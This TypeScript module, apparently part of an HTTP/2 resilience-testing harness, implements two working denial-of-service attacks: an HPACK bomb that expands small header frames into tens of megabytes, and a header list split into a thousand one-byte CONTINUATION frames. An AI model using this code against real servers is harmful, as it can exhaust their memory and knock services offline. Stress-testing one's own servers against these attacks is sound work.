import { type Attack, callHeaders } from "./attack.js";
import { FLAG, frame, headerBlock, TYPE } from "./frames.js";

const VALUE_BYTES = 3_900;
const REFERENCES = 16_000;

/** Adds "x" with a value that fills the decoder's table (RFC 7541, section 6.2.1). */
const ENTRY = Buffer.concat([
  Buffer.from([0x40]),
  headerBlock({ x: "y".repeat(VALUE_BYTES) }).subarray(1),
]);
/** Names that entry again and again: 62 MB of header list in 16 KB. */
const BOMB = Buffer.alloc(REFERENCES, 0xbe);

/** A small frame that stands for a huge header list. */
export const hpackBomb: Attack = {
  name: "HPACK bombs",
  connections: 2,
  async run(connection) {
    await connection.begin();
    const flags = FLAG.endHeaders | FLAG.endStream;
    await connection.write(frame(TYPE.headers, flags, 1, ENTRY));
    for (let stream = 3; connection.going; stream += 2) {
      await connection.write(frame(TYPE.headers, flags, stream, BOMB));
    }
  },
};

/** A whole list, an octet in each CONTINUATION. */
export const manyContinuations: Attack = {
  name: "header list in a thousand CONTINUATIONs",
  connections: 2,
  async run(connection) {
    await connection.begin();
    const block = callHeaders(1, true, { x: "y".repeat(900) }).subarray(9);
    const pieces = Array.from(block, (_, at) => block.subarray(at, at + 1));
    const frames = pieces.map((piece, at) => {
      const flags = at === pieces.length - 1 ? FLAG.endHeaders : 0;
      return at === 0
        ? frame(TYPE.headers, FLAG.endStream, 1, piece)
        : frame(TYPE.continuation, flags, 1, piece);
    });
    await connection.write(Buffer.concat(frames), frames.length);
    await connection.waitForEnd();
  },
};
